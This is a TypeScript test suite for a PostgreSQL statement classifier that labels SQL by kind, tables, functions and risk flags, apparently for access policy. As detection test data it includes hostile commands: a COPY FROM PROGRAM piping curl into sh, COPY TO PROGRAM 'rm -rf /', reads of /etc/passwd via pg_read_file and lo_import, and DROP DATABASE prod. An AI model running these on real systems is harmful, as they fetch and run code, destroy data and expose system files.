import { before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { classifyNode, classifySql, fingerprintSql, literalShape, initSql, SQL_KINDS, groupsOfKind, actionParents } from "./index.js";

before(() => initSql());

/** The one statement of `text`. */
function one(text: string) {
  const c = classifySql(text);
  assert.equal(c.parseError, "", `unexpected parse error for ${text}`);
  assert.equal(c.statements.length, 1, `expected one statement in ${text}`);
  return c.statements[0]!;
}

// [sql, expected kind] — kind naming and action = "sql:<kind>".
const KINDS: Array<[string, string]> = [
  ["SELECT 1", "select"],
  ["select * from customers where id = 1", "select"],
  ["VALUES (1), (2)", "select"],
  ["INSERT INTO t (a) VALUES (1)", "insert"],
  ["UPDATE t SET a = 1 WHERE id = 2", "update"],
  ["DELETE FROM t WHERE id = 1", "delete"],
  ["MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "merge"],
  ["TRUNCATE t", "truncate"],
  ["DROP TABLE t", "drop_table"],
  ["dRoP dAtAbAsE prod", "drop_database"],
  ["DROP SCHEMA s CASCADE", "drop_schema"],
  ["DROP ROLE bob", "drop_role"],
  ["DROP USER bob", "drop_role"],
  ["DROP VIEW v", "drop_view"],
  ["DROP MATERIALIZED VIEW mv", "drop_materialized_view"],
  ["DROP FUNCTION f(int)", "drop_function"],
  ["DROP EXTENSION dblink", "drop_extension"],
  ["CREATE TABLE t (id int)", "create_table"],
  ["CREATE INDEX i ON t (a)", "create_index"],
  ["CREATE VIEW v AS SELECT 1", "create_view"],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", "create_function"],
  ["CREATE TABLE t2 AS SELECT * FROM t", "create_table_as"],
  ["SELECT * INTO t2 FROM t", "create_table_as"],
  ["CREATE MATERIALIZED VIEW mv AS SELECT 1", "create_materialized_view"],
  ["CREATE EXTENSION dblink", "create_extension"],
  ["ALTER TABLE t ADD COLUMN b int", "alter_table"],
  ["ALTER TABLE t RENAME TO u", "alter_table"],
  ["ALTER SYSTEM SET work_mem = '1GB'", "alter_system"],
  ["CREATE ROLE r LOGIN", "create_role"],
  ["CREATE USER u PASSWORD 'x'", "create_role"],
  ["ALTER ROLE r SUPERUSER", "alter_role"],
  ["ALTER USER r SET search_path = x", "alter_role"],
  ["GRANT SELECT ON t TO r", "grant"],
  ["REVOKE ALL ON t FROM r", "revoke"],
  ["GRANT admin TO bob", "grant_role"],
  ["COPY t FROM STDIN", "copy_from"],
  ["COPY t TO STDOUT", "copy_to"],
  ["DO $$ BEGIN PERFORM 1; END $$", "do"],
  ["SET search_path = public", "set"],
  ["SET LOCAL statement_timeout = 5", "set"],
  ["SHOW search_path", "show"],
  ["RESET search_path", "reset"],
  ["RESET ALL", "reset"],
  ["BEGIN", "begin"],
  ["START TRANSACTION ISOLATION LEVEL SERIALIZABLE", "begin"],
  ["COMMIT", "commit"],
  ["END", "commit"],
  ["ROLLBACK", "rollback"],
  ["SAVEPOINT s1", "savepoint"],
  ["RELEASE SAVEPOINT s1", "release"],
  ["ROLLBACK TO SAVEPOINT s1", "rollback_to_savepoint"],
  ["PREPARE TRANSACTION 'x'", "prepare_transaction"],
  ["LISTEN ch", "listen"],
  ["NOTIFY ch, 'hello'", "notify"],
  ["UNLISTEN *", "unlisten"],
  ["EXPLAIN SELECT * FROM t", "explain"],
  ["EXECUTE p(1)", "execute"],
  ["DEALLOCATE p", "deallocate"],
  ["CALL do_things(1)", "call"],
  ["VACUUM t", "vacuum"],
  ["VACUUM ANALYZE t", "vacuum"],
  ["ANALYZE t", "analyze"],
  ["LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "lock"],
  ["DISCARD ALL", "discard"],
  ["DECLARE c CURSOR FOR SELECT * FROM t", "declare_cursor"],
  ["FETCH 10 FROM c", "fetch"],
  ["MOVE 10 IN c", "move"],
  ["CLOSE c", "close"],
  ["CHECKPOINT", "checkpoint"],
  ["LOAD 'auto_explain'", "load"],
  ["COMMENT ON TABLE t IS 'x'", "comment"],
  ["REINDEX TABLE t", "reindex"],
  ["REFRESH MATERIALIZED VIEW mv", "refresh_materialized_view"],
  ["SET CONSTRAINTS ALL DEFERRED", "set_constraints"],
  ["ALTER DATABASE d SET work_mem = '1MB'", "alter_database"],
  ["CREATE DATABASE d", "create_database"],
  ["REASSIGN OWNED BY a TO b", "reassign_owned"],
  ["ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO r", "alter_default_privileges"],
];

describe("statement kinds", () => {
  for (const [sql, kind] of KINDS) {
    test(`${sql} -> ${kind}`, () => {
      const s = one(sql);
      assert.equal(s.kind, kind);
      assert.equal(s.action, `sql:${kind}`);
      assert.ok(SQL_KINDS.includes(s.kind), `${s.kind} is in the catalog`);
    });
  }
});

describe("comments, literals, casing and quoting never trigger anything", () => {
  test("a DROP in a block comment is a comment", () => {
    const s = one("/* DROP TABLE x */ SELECT 1");
    assert.equal(s.kind, "select");
    assert.deepEqual(s.tables, []);
  });
  test("a DROP in a line comment is a comment", () => {
    assert.equal(one("SELECT 1 -- ; DROP DATABASE prod").kind, "select");
  });
  test("string literal", () => {
    const s = one("SELECT 'truncate'");
    assert.equal(s.kind, "select");
    assert.deepEqual(s.functions, []);
  });
  test("dollar-quoted literal", () => {
    assert.equal(one("SELECT $$drop database x$$").kind, "select");
  });
  test("a function name inside a literal is not a call", () => {
    assert.deepEqual(one("SELECT 'pg_terminate_backend(1)'").functions, []);
  });
  test("mixed case", () => {
    assert.equal(one("dElEtE FrOm T wHeRe Id = 1").kind, "delete");
    assert.deepEqual(one("dElEtE FrOm T wHeRe Id = 1").tables, ["t"]);
  });
  test("quoted identifiers keep their case, unquoted fold to lower case", () => {
    assert.deepEqual(one('SELECT * FROM "MySchema"."Customers"').tables, ["MySchema.Customers"]);
    assert.deepEqual(one("SELECT * FROM MySchema.Customers").tables, ["myschema.customers"]);
  });
  test('a quoted "DROP" table name is a table', () => {
    const s = one('SELECT * FROM "drop table x"');
    assert.equal(s.kind, "select");
    assert.deepEqual(s.tables, ["drop table x"]);
  });
});

describe("multi-statement texts", () => {
  test("each statement is classified with its own position", () => {
    const text = "SELECT 1; DELETE FROM t; DROP TABLE u";
    const c = classifySql(text);
    assert.deepEqual(c.statements.map((s) => s.kind), ["select", "delete", "drop_table"]);
    const [a, b, d] = c.statements;
    assert.equal(text.slice(a!.location, a!.location + a!.length), "SELECT 1");
    assert.equal(text.slice(b!.location, b!.location + b!.length).trim(), "DELETE FROM t");
    assert.equal(text.slice(d!.location, d!.location + d!.length).trim(), "DROP TABLE u");
  });
  test("positions are in bytes", () => {
    const text = "SELECT 'é'; SELECT 2";
    const c = classifySql(text);
    const second = c.statements[1]!;
    assert.equal(Buffer.from(text).subarray(second.location, second.location + second.length).toString().trim(), "SELECT 2");
  });
  test("an empty or comment-only text has no statements and no error", () => {
    for (const t of ["", "   ", ";", "-- nothing"]) {
      const c = classifySql(t);
      assert.deepEqual(c.statements, [], t);
      assert.equal(c.parseError, "", t);
    }
  });
});

describe("tables and write tables", () => {
  test("joins and subqueries", () => {
    const s = one("SELECT * FROM a JOIN s.b ON a.id = b.id WHERE a.x IN (SELECT x FROM c)");
    assert.deepEqual([...s.tables].sort(), ["a", "c", "s.b"]);
    assert.deepEqual(s.writeTables, []);
  });
  test("insert ... select", () => {
    const s = one("INSERT INTO audit.log SELECT * FROM src");
    assert.deepEqual([...s.tables].sort(), ["audit.log", "src"]);
    assert.deepEqual(s.writeTables, ["audit.log"]);
  });
  test("truncate of several tables", () => {
    assert.deepEqual([...one("TRUNCATE a, s.b").writeTables].sort(), ["a", "s.b"]);
  });
  test("copy from writes, copy to does not", () => {
    assert.deepEqual(one("COPY t FROM STDIN").writeTables, ["t"]);
    assert.deepEqual(one("COPY t TO STDOUT").writeTables, []);
  });
  test("drop table lists its tables", () => {
    assert.deepEqual([...one("DROP TABLE a, s.b").tables].sort(), ["a", "s.b"]);
  });
});

describe("WHERE clauses", () => {
  test("delete/update without WHERE", () => {
    assert.equal(one("DELETE FROM t").hasWhere, false);
    assert.equal(one("UPDATE t SET a = 1").hasWhere, false);
  });
  test("delete/update with WHERE", () => {
    assert.equal(one("DELETE FROM t WHERE id = 1").hasWhere, true);
    assert.equal(one("UPDATE t SET a = 1 WHERE id = $1").hasWhere, true);
  });
  test("a constant or parameter-only WHERE counts as absent (same fingerprint as none)", () => {
    for (const t of ["DELETE FROM t WHERE true", "DELETE FROM t WHERE $1", "DELETE FROM t WHERE 't'::bool", "UPDATE t SET a = 1 WHERE (true)"]) {
      assert.equal(one(t).hasWhere, false, t);
    }
  });
  test("any real predicate counts as present", () => {
    assert.equal(one("DELETE FROM t WHERE 1 = 1").hasWhere, true);
  });
});

describe("nested writes (CTEs, COPY query)", () => {
  test("DELETE in a CTE without WHERE", () => {
    const s = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
    assert.equal(s.kind, "select");
    assert.deepEqual(s.nestedWrites, ["delete"]);
    assert.deepEqual(s.writeTables, ["t"]);
    assert.ok(s.flags.includes("nested_delete_without_where"));
  });
  test("DELETE in a CTE with WHERE", () => {
    const s = one("WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d");
    assert.deepEqual(s.nestedWrites, ["delete"]);
    assert.ok(!s.flags.includes("nested_delete_without_where"));
  });
  test("UPDATE in a CTE of an INSERT", () => {
    const s = one("WITH u AS (UPDATE s.acct SET x = 0 RETURNING id) INSERT INTO log SELECT id FROM u");
    assert.equal(s.kind, "insert");
    assert.deepEqual(s.nestedWrites, ["update"]);
    assert.deepEqual([...s.writeTables].sort(), ["log", "s.acct"]);
    assert.ok(s.flags.includes("nested_update_without_where"));
  });
  test("COPY (DELETE ... RETURNING) TO STDOUT", () => {
    const s = one("COPY (DELETE FROM t RETURNING *) TO STDOUT");
    assert.equal(s.kind, "copy_to");
    assert.deepEqual(s.nestedWrites, ["delete"]);
    assert.ok(s.flags.includes("nested_delete_without_where"));
  });
});

describe("EXPLAIN and PREPARE", () => {
  test("EXPLAIN ANALYZE DELETE is a delete", () => {
    const s = one("EXPLAIN ANALYZE DELETE FROM t");
    assert.equal(s.kind, "delete");
    assert.equal(s.hasWhere, false);
    assert.deepEqual(s.writeTables, ["t"]);
    assert.ok(s.flags.includes("explain_analyze"));
  });
  test("EXPLAIN (ANALYZE, FORMAT JSON) UPDATE is an update", () => {
    assert.equal(one("EXPLAIN (ANALYZE, FORMAT JSON) UPDATE t SET a = 1 WHERE id = 1").kind, "update");
  });
  test("EXPLAIN (ANALYZE false) still counts as analyze (fail closed)", () => {
    assert.equal(one("EXPLAIN (ANALYZE false) DELETE FROM t").kind, "delete");
  });
  test("plain EXPLAIN is explain, with the inner kind as a flag", () => {
    const s = one("EXPLAIN DELETE FROM t WHERE id = 1");
    assert.equal(s.kind, "explain");
    assert.ok(s.flags.includes("explain:delete"));
  });
  test("EXPLAIN ANALYZE SELECT is a select", () => {
    assert.equal(one("explain analyze select * from t").kind, "select");
  });
  test("PREPARE p AS DELETE is classified as the delete", () => {
    const s = one("PREPARE p AS DELETE FROM t");
    assert.equal(s.kind, "delete");
    assert.equal(s.hasWhere, false);
    assert.ok(s.flags.includes("prepare"));
  });
});

describe("COPY, DO and SET flags", () => {
  test("COPY FROM PROGRAM", () => {
    const s = one("COPY t FROM PROGRAM 'curl http://x | sh'");
    assert.equal(s.kind, "copy_from");
    assert.ok(s.flags.includes("copy_program"));
  });
  test("COPY TO PROGRAM", () => {
    assert.ok(one("copy (select 1) to program 'rm -rf /'").flags.includes("copy_program"));
  });
  test("COPY to a server file", () => {
    const s = one("COPY t TO '/tmp/out.csv'");
    assert.ok(s.flags.includes("copy_file"));
    assert.ok(!s.flags.includes("copy_program"));
  });
  test("COPY STDIN", () => {
    assert.ok(one("COPY t (a, b) FROM STDIN WITH (FORMAT csv)").flags.includes("copy_stdio"));
  });
  test("DO block", () => {
    assert.ok(one("DO LANGUAGE plpgsql $$ BEGIN EXECUTE 'DROP TABLE t'; END $$").flags.includes("do_block"));
  });
  test("SET ROLE names the setting", () => {
    assert.ok(one("SET ROLE postgres").flags.includes("setting:role"));
    assert.ok(one("SET SESSION AUTHORIZATION postgres").flags.includes("setting:session_authorization"));
  });
  test("SELECT ... FOR UPDATE takes row locks", () => {
    assert.ok(one("SELECT * FROM t FOR UPDATE").flags.includes("row_lock"));
  });
});

describe("functions", () => {
  test("qualified call is listed qualified and unqualified", () => {
    const s = one("SELECT pg_catalog.pg_terminate_backend(123)");
    assert.deepEqual([...s.functions].sort(), ["pg_catalog.pg_terminate_backend", "pg_terminate_backend"]);
  });
  test("unqualified call", () => {
    assert.deepEqual(one("SELECT pg_cancel_backend(1)").functions, ["pg_cancel_backend"]);
  });
  test("case-folded, even when quoted", () => {
    assert.ok(one('SELECT "PG_CATALOG"."PG_READ_FILE"(\'x\')').functions.includes("pg_read_file"));
  });
  test("in FROM, nested in expressions, in subqueries", () => {
    const s = one("SELECT upper(lower(x)) FROM pg_ls_dir('.') AS x WHERE EXISTS (SELECT lo_import('/etc/passwd'))");
    for (const f of ["upper", "lower", "pg_ls_dir", "lo_import"]) assert.ok(s.functions.includes(f), f);
  });
  test("in a column DEFAULT", () => {
    assert.ok(one("CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))").functions.includes("pg_read_file"));
  });
  test("CALL lists the procedure", () => {
    assert.ok(one("CALL myschema.cleanup()").functions.includes("myschema.cleanup"));
  });
  test("in a CTE of an UPDATE", () => {
    assert.ok(one("WITH x AS (SELECT dblink_exec('c', 'drop table t')) UPDATE t SET a = 1 WHERE id = 1").functions.includes("dblink_exec"));
  });
});

describe("parse errors and fingerprints", () => {
  test("unparseable text: no statements, the parser's message", () => {
    const c = classifySql("DROP DATABSE prod");
    assert.deepEqual(c.statements, []);
    assert.match(c.parseError, /syntax error at or near "DATABSE"/i);
    assert.equal(c.fingerprint, "");
  });
  test("one bad statement poisons the whole text", () => {
    const c = classifySql("SELECT 1; SELEC 2");
    assert.deepEqual(c.statements, []);
    assert.notEqual(c.parseError, "");
  });
  test("deep nesting does not crash", () => {
    const c = classifySql("SELECT " + "(".repeat(5000) + "1" + ")".repeat(5000));
    assert.equal(typeof c.parseError, "string");
  });
  test("constants do not change the fingerprint", () => {
    assert.equal(fingerprintSql("SELECT * FROM t WHERE id = 1"), fingerprintSql("select * from t where id = 42"));
  });
  test("texts a policy tells apart never share a fingerprint", () => {
    const pairs: Array<[string, string]> = [
      ["DELETE FROM t", "DELETE FROM t WHERE id = 1"],
      ["SELECT * FROM s.t", "SELECT * FROM r.t"],
      ["SELECT * FROM t_2024", "SELECT * FROM t_2025"],
      ["DELETE FROM t WHERE true", "DELETE FROM t WHERE id = 1"],
    ];
    for (const [a, b] of pairs) assert.notEqual(fingerprintSql(a), fingerprintSql(b), `${a} | ${b}`);
  });
  test("unparseable text has no fingerprint", () => {
    assert.equal(fingerprintSql("SELEC 1"), undefined);
  });
});

describe("literal shape (memo key for fingerprints)", () => {
  test("blanks numbers and plain strings, keeping length and everything else", () => {
    assert.equal(literalShape("SELECT abalance FROM pgbench_accounts WHERE aid = 81234;"), "SELECT abalance FROM pgbench_accounts WHERE aid = 00000;");
    assert.equal(literalShape("SELECT * FROM t1 WHERE name = 'it''s' AND x > 1.5e3"), "SELECT * FROM t1 WHERE name = 'xxxxx' AND x > 0.0e3");
    assert.equal(literalShape("SELECT 'a' 'b', interval '1 day'"), "SELECT 'x' 'x', interval 'xxxxx'");
  });
  test("identifiers keep their digits", () => {
    assert.equal(literalShape("SELECT c2 FROM t_2024"), "SELECT c2 FROM t_2024");
  });
  test("anything that changes how the rest is lexed is not shaped", () => {
    for (const t of [
      "SELECT 1 -- x",
      "SELECT /* 1 */ 1",
      'SELECT "a1" FROM t',
      "SELECT $1",
      "SELECT $$ 1 $$",
      "SELECT E'a'",
      "SELECT B'0101'",
      "SELECT U&'d0061t'",
      "SELECT N'x'",
      "SELECT 'a\\'",
      "SELECT 'unterminated",
      "SELECT 'a\u0000b'",
    ]) {
      assert.equal(literalShape(t), undefined, t);
    }
  });
  test("a string holding SQL cannot share a shape with that SQL", () => {
    assert.notEqual(literalShape("SELECT 'x'; DROP TABLE t; SELECT 'x'"), literalShape("SELECT 'x''; DROP TABLE t; SELECT ''x'"));
  });
  test("texts with one shape have one fingerprint, and each equals the unmemoized one", () => {
    const groups = [
      ["SELECT * FROM t WHERE id = 1", "SELECT * FROM t WHERE id = 9", "SELECT * FROM t WHERE id = 0"],
      ["DELETE FROM t WHERE name = 'bob'", "DELETE FROM t WHERE name = 'drp'", "DELETE FROM t WHERE name = 'a'''"],
      ["UPDATE t SET v = 'x' WHERE id = 12", "UPDATE t SET v = ';' WHERE id = 99"],
    ];
    for (const g of groups) {
      const shapes = new Set(g.map((t) => literalShape(t)));
      assert.equal(shapes.size, 1, g.join(" | "));
      for (const t of g) assert.equal(fingerprintSql(t), classifySql(t).fingerprint || undefined, t);
    }
  });
});

describe("kind catalog", () => {
  test("groups", () => {
    assert.deepEqual(groupsOfKind("select"), ["read"]);
    assert.deepEqual(groupsOfKind("delete"), ["write"]);
    assert.deepEqual(groupsOfKind("drop_table"), ["ddl"]);
    assert.deepEqual(groupsOfKind("alter_system"), ["admin"]);
    assert.deepEqual(groupsOfKind("create_role"), ["admin"]);
    assert.deepEqual(groupsOfKind("commit"), ["transaction"]);
    assert.deepEqual(groupsOfKind("show"), ["read", "session"]);
    assert.deepEqual(actionParents("other"), ["all"]);
    assert.deepEqual(actionParents("insert"), ["sql:write", "all"]);
  });
  test("an unknown node becomes other with its node name; the walk still finds tables and calls", () => {
    const s = classifyNode(
      { FrobnicateStmt: { target: { RangeVar: { schemaname: "s", relname: "x" } }, deep: [{ list: [{ FuncCall: { funcname: [{ String: { sval: "pg_read_file" } }] } }] }] } },
      0,
      10,
    );
    assert.equal(s.kind, "other");
    assert.equal(s.action, "sql:other");
    assert.ok(s.flags.includes("node:FrobnicateStmt"));
    assert.deepEqual(s.tables, ["s.x"]);
    assert.deepEqual(s.functions, ["pg_read_file"]);
  });
});
